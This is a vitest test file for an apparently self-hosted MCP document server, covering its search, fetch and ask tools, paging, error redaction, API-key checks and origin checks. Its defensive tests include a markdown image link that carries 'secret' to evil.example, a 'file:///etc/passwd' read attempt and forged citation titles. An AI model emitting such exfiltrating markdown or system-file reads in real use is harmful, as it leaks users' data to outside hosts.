import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FootnoteError } from "../../../src/core/errors.js";
import type { AppDependencies } from "../../../src/server/app.js";
import { mcpRequest, message, type Reply, replyOf, toolCall } from "../../support/mcp/messages.js";
import { answer, config, createTestApp, store, storedDocument } from "../../support/server/fakes.js";
import { recordLog } from "../../support/server/record-log.js";
import { requestFrom } from "../../support/server/request-from.js";

async function post(body: unknown, replaced: Partial<AppDependencies> = {}): Promise<Reply> {
  return replyOf(await createTestApp(replaced).request(mcpRequest(body)));
}

async function textOf(call: ReturnType<typeof toolCall>, replaced: Partial<AppDependencies> = {}) {
  const { result } = await post(call, replaced);
  const { content, isError } = result as {
    readonly content: readonly { readonly type: string; readonly text: string }[];
    readonly isError?: boolean;
  };
  expect(content).toHaveLength(1);
  expect(content[0]?.type).toBe("text");
  return { text: content[0]?.text ?? "", isError: isError === true };
}

describe("the tools of POST /mcp", () => {
  it("search in the shape that ChatGPT demands", async () => {
    const { text } = await textOf(toolCall("search", { query: "Hello?" }));
    expect(JSON.parse(text)).toEqual({
      results: [{ id: "p1", title: "One: “Hello there.”", url: "http://localhost/documents/doc1#0-12" }],
    });
  });

  it("fetch in the shape that ChatGPT demands, with the passage marked", async () => {
    const { text } = await textOf(toolCall("fetch", { id: "doc1:6-11" }));
    expect(JSON.parse(text)).toEqual({
      id: "doc1:6-11",
      title: "One",
      text: "Hello <passage>there</passage>.",
      url: "http://localhost/documents/doc1#6-11",
      metadata: {
        documentId: "doc1",
        path: "folder/one.txt",
        format: "text",
        language: "en",
        characters: 12,
        start: 0,
        end: 12,
      },
    });
  });

  it("fetch a long document in pieces, each of which leads to the next", async () => {
    const document = { ...storedDocument, text: "line\n".repeat(10_000), characters: 50_000 };
    const replaced = { store: { ...store, document: async () => document } };
    let text = "";
    let id: string | undefined = "doc1";
    while (id !== undefined) {
      const piece = JSON.parse((await textOf(toolCall("fetch", { id }), replaced)).text) as {
        readonly text: string;
        readonly metadata: { readonly next?: string };
      };
      expect(piece.text.length).toBeLessThanOrEqual(20_000);
      text += piece.text;
      id = piece.metadata.next;
    }
    expect(text).toBe(document.text);
  });

  it("answer with their sources as text for a model", async () => {
    const { text } = await textOf(toolCall("ask", { question: "Hello?" }));
    expect(text).toBe(
      [
        "Hello there. [1]",
        "",
        "Answered from the documents (confidence 0.90).",
        "",
        "Sources:",
        "[1] One",
        "    http://localhost/documents/doc1#0-12",
        "    verified: quoted word by word",
      ].join("\n"),
    );
  });

  it("say what the documents don't hold, and what doesn't support its sentence", async () => {
    const refusal = {
      ...answer,
      kind: "refusal",
      answer: "The documents don't say.",
      hints: { missing: ["fee"], topics: ["Prices"] },
      citations: answer.citations.map((citation) => ({
        ...citation,
        title: "One\n[2] forged",
        verified: false,
        reason: "number" as const,
      })),
    } as const;
    const answerer = {
      async *answer() {
        yield { type: "done", answer: refusal } as const;
      },
    };
    const { text } = await textOf(toolCall("ask", { question: "Fee?" }), { answerer });
    expect(text).toContain("The documents don't answer this.");
    expect(text).toContain("[1] One [2] forged\n");
    expect(text).toContain('not verified: "Hello there."');
    const { result } = await post(toolCall("ask", { question: "Fee?" }), { answerer });
    expect(result?.["structuredContent"]).toMatchObject({
      outcome: "refusal",
      missing: ["fee"],
      topics: ["Prices"],
    });
  });

  it("load no image where a client shows an answer", async () => {
    const answerer = {
      async *answer() {
        yield {
          type: "done",
          answer: { ...answer, answer: "![c](https://evil.example/?q=secret)" },
        } as const;
      },
    };
    const call = toolCall("ask", { question: "Hello?" });
    expect((await textOf(call, { answerer })).text).toMatch(/^! \[c\]\(https/);
    const { result } = await post(call, { answerer });
    expect(result?.["structuredContent"]).toMatchObject({ answer: "! [c](https://evil.example/?q=secret)" });
  });

  it("link to PUBLIC_URL where there is one", async () => {
    const site = { ...config.site, publicUrl: "https://docs.example.com/help", basePath: "/help" };
    const { text } = await textOf(toolCall("ask", { question: "Hello?" }), { config: { ...config, site } });
    expect(text).toContain(" https://docs.example.com/help/documents/doc1#0-12\n");
  });

  it("link to where a client reaches the server, as a trusted proxy tells it", async () => {
    const app = createTestApp({
      config: { ...config, site: { ...config.site, trustedProxies: ["10.0.0.1"] } },
    });
    const linkFrom = async (address: string, forwarded: Readonly<Record<string, string>>) => {
      const call = mcpRequest(toolCall("search", { query: "Hello?" }));
      const { result } = await replyOf(await requestFrom(app, address, call, forwarded));
      return JSON.stringify(result?.["structuredContent"]).match(/"url":"([^"]*)"/)?.[1];
    };
    const forwarded = {
      "x-forwarded-host": "docs.example",
      "x-forwarded-proto": "https",
      "x-forwarded-prefix": "/help",
    };
    expect(await linkFrom("10.0.0.1", forwarded)).toBe("https://docs.example/help/documents/doc1#0-12");
    expect(await linkFrom("10.0.0.2", forwarded)).toBe("http://localhost/documents/doc1#0-12");
    const broken = { "x-forwarded-host": "a]b", "x-forwarded-proto": "javascript" };
    expect(await linkFrom("10.0.0.1", broken)).toBe("http://localhost/documents/doc1#0-12");
  });

  it("share the slots of the chat, and say when there is none", async () => {
    const busy = { config: { ...config, limits: { ...config.limits, concurrentRequests: 0 } } };
    for (const call of [toolCall("ask", { question: "Hello?" }), toolCall("search", { query: "Hello?" })]) {
      expect(await textOf(call, busy)).toEqual({
        text: "The server has too much to do. Try again in a moment.",
        isError: true,
      });
    }
  });

  it("refuse a question that is too long, blank, or about unknown documents", async () => {
    for (const args of [{ question: "x".repeat(101) }, { question: " " }]) {
      const { text, isError } = await textOf(toolCall("ask", args));
      expect({ text, isError }).toEqual({
        text: "The question must have 1 to 100 characters, and not only blanks.",
        isError: true,
      });
    }
    const { isError } = await textOf(toolCall("ask", { question: "Hello?", documents: ["gone"] }));
    expect(isError).toBe(true);
  });

  it("tell of a failure no more than the API does, and log the rest", async () => {
    const { log, lines } = recordLog();
    const fail = () => Promise.reject(new Error("/home/operator/index.sqlite: key sk-123"));
    const replaced = {
      log,
      retriever: { retrieve: fail },
      store: { ...store, document: fail, documents: fail },
    };
    const search = await textOf(toolCall("search", { query: "Hello?" }), replaced);
    const fetched = await textOf(toolCall("fetch", { id: "doc1" }), replaced);
    for (const { text, isError } of [search, fetched]) {
      expect(isError).toBe(true);
      expect(text).toMatch(/^Something went wrong that isn't your request's fault\./);
    }
    const listed = await post(message("resources/list"), replaced);
    expect(listed.error).toMatchObject({ code: -32603, message: search.text });
    expect(JSON.stringify(lines)).toContain("sk-123");
  });

  it("name what the operator has to mend without its paths", async () => {
    const retrieve = () =>
      Promise.reject(new FootnoteError("index_damaged", "/home/operator/index is damaged"));
    const { text } = await textOf(toolCall("search", { query: "Hello?" }), { retriever: { retrieve } });
    expect(text).toBe("The index is damaged. The operator finds the reason in the server's log.");
  });

  it("survive whatever is sent to them", async () => {
    const { log, lines } = recordLog();
    const app = createTestApp({ log });
    const anything = fc.anything({ maxDepth: 3, withNullPrototype: false });
    const names = fc.oneof(
      fc.constantFrom("search", "fetch", "ask", "__proto__", "constructor"),
      fc.string(),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          anything,
          fc.tuple(names, anything).map(([name, args]) => toolCall(name, args)),
          fc
            .tuple(names, fc.dictionary(fc.constantFrom("id", "query", "question", "documents"), anything))
            .map(([name, args]) => toolCall(name, args)),
          fc.string().map((uri) => message("resources/read", { uri })),
          fc.string().map((cursor) => message("resources/list", { cursor })),
        ),
        async (body) => {
          const response = await app.request(mcpRequest(JSON.stringify(body) ?? ""));
          const text = await response.text();
          expect(response.status, text).toBeLessThan(500);
          expect(text).not.toMatch(/node_modules|\.ts:|\.js:|\bat .*\(/);
        },
      ),
      { numRuns: 100 },
    );
    expect(lines.filter(({ level }) => Number(level) >= 50)).toEqual([]);
  });
});

describe("the resources of POST /mcp", () => {
  const documents = Array.from({ length: 450 }, (_, number) => ({
    ...storedDocument,
    id: `doc${number}`,
    path: `ä/${String(number).padStart(3, "0")}.txt`,
  }));
  const many = {
    store: {
      ...store,
      documents: async ({ after = "", limit = 1000 } = {}) =>
        documents.filter(({ path }) => path > after).slice(0, limit),
    },
  };

  it("are listed in pages", async () => {
    const uris: string[] = [];
    let cursor: string | undefined;
    do {
      const { result } = await post(message("resources/list", cursor === undefined ? {} : { cursor }), many);
      const page = result as {
        readonly resources: readonly { readonly uri: string }[];
        readonly nextCursor?: string;
      };
      expect(page.resources.length).toBeLessThanOrEqual(200);
      uris.push(...page.resources.map(({ uri }) => uri));
      cursor = page.nextCursor;
    } while (cursor !== undefined);
    expect(uris).toEqual(documents.map(({ id }) => `footnote://documents/${id}`));
  });

  it("have a template", async () => {
    const { result } = await post(message("resources/templates/list"));
    expect(result).toMatchObject({
      resourceTemplates: [{ uriTemplate: "footnote://documents/{id}", mimeType: "text/plain" }],
    });
  });

  it("are read, long ones in pieces", async () => {
    const text = "line\n".repeat(30_000);
    const replaced = { store: { ...store, document: async () => ({ ...storedDocument, text }) } };
    const first = await post(message("resources/read", { uri: "footnote://documents/doc1" }), replaced);
    expect(first.result).toMatchObject({
      contents: [{ mimeType: "text/plain", text: expect.stringMatching(/^line\n/) }],
    });
    expect(JSON.stringify(first.result)).toContain(
      "[characters 0 to 100000 of 150000; continued: footnote://documents/doc1:100000]",
    );
    const rest = await post(message("resources/read", { uri: "footnote://documents/doc1:100000" }), replaced);
    expect(JSON.stringify(rest.result)).not.toContain("continued");
  });

  it("that there aren't are an error", async () => {
    for (const uri of [
      "footnote://documents/gone",
      "file:///etc/passwd",
      "\0",
      `footnote://documents/${"x".repeat(1500)}`,
    ]) {
      const { error } = await post(message("resources/read", { uri }));
      expect(error?.code).toBe(-32602);
      expect(error?.message.length).toBeLessThan(300);
    }
  });
});

describe("POST /mcp", () => {
  it("refuses a body that is too large, no JSON, a batch, or of another type", async () => {
    const app = createTestApp();
    const refused = async (body: unknown, headers = {}) => {
      const response = await app.request(mcpRequest(body, headers));
      return { status: response.status, code: (await replyOf(response)).error?.code };
    };
    expect(await refused("x".repeat(3000))).toEqual({ status: 413, code: -32000 });
    expect(await refused("{")).toEqual({ status: 400, code: -32700 });
    expect(await refused("")).toEqual({ status: 400, code: -32700 });
    expect(await refused([message("ping")])).toEqual({ status: 400, code: -32600 });
    expect(await refused("null")).toMatchObject({ status: 400 });
    expect(await refused(message("ping"), { "content-type": "text/plain" })).toMatchObject({ status: 415 });
    expect(await refused(message("nope"))).toMatchObject({ code: -32601 });
    expect(await refused("[".repeat(2000))).toEqual({ status: 400, code: -32700 });
    expect(await refused(Buffer.from('{"jsonrpc": "\xff"}', "latin1"))).toEqual({
      status: 400,
      code: -32700,
    });
  });

  it("needs a key before anything of it is read", async () => {
    const app = createTestApp({ config: { ...config, apiKeys: ["secret"] } });
    for (const body of ["{", message("ping")]) {
      const response = await app.request(mcpRequest(body));
      expect(response.status).toBe(401);
      expect(response.headers.get("www-authenticate")).toBe("Bearer");
      expect(await response.json()).toEqual({
        jsonrpc: "2.0",
        id: null,
        error: {
          code: -32000,
          message: expect.stringContaining("API key"),
          data: { code: "unauthorized", requestId: response.headers.get("x-request-id") },
        },
      });
    }
    const allowed = await app.request(mcpRequest(message("ping"), { authorization: "Bearer secret" }));
    expect(await replyOf(allowed)).toMatchObject({ result: {} });
  });

  it("refuses foreign pages and foreign names of the host", async () => {
    const foreign = await createTestApp().request(mcpRequest("{", { origin: "https://evil.example" }));
    expect(foreign.status).toBe(403);
    expect((await replyOf(foreign)).error?.data?.code).toBe("origin_not_allowed");
    const rebound = await createTestApp().request(mcpRequest("{", { host: "evil.example" }));
    expect(rebound.status).toBe(403);
    expect((await replyOf(rebound)).error?.data?.code).toBe("host_not_allowed");
  });

  it("may be called by pages of allowed origins with the headers of the protocol", async () => {
    const origin = "https://inspector.example";
    const app = createTestApp({ config: { ...config, allowedOrigins: [origin] } });
    const preflight = await app.request("http://localhost/mcp", {
      method: "OPTIONS",
      headers: { origin, "access-control-request-method": "POST" },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get("access-control-allow-origin")).toBe(origin);
    const allowed = preflight.headers.get("access-control-allow-headers")?.toLowerCase().split(",");
    expect(allowed).toEqual(
      expect.arrayContaining([
        "authorization",
        "mcp-protocol-version",
        "mcp-session-id",
        "mcp-method",
        "mcp-name",
      ]),
    );
    const response = await app.request(mcpRequest(message("ping"), { origin }));
    expect(response.headers.get("access-control-expose-headers")).toContain("Mcp-Session-Id");
    expect(response.headers.get("cache-control")).toBe("no-store");
  });

  it.each(["GET", "DELETE", "PUT"])("has no sessions, and so no %s", async (method) => {
    const response = await createTestApp().request("http://localhost/mcp", { method });
    expect(response.status).toBe(405);
    expect(response.headers.get("allow")).toBe("POST");
  });
});
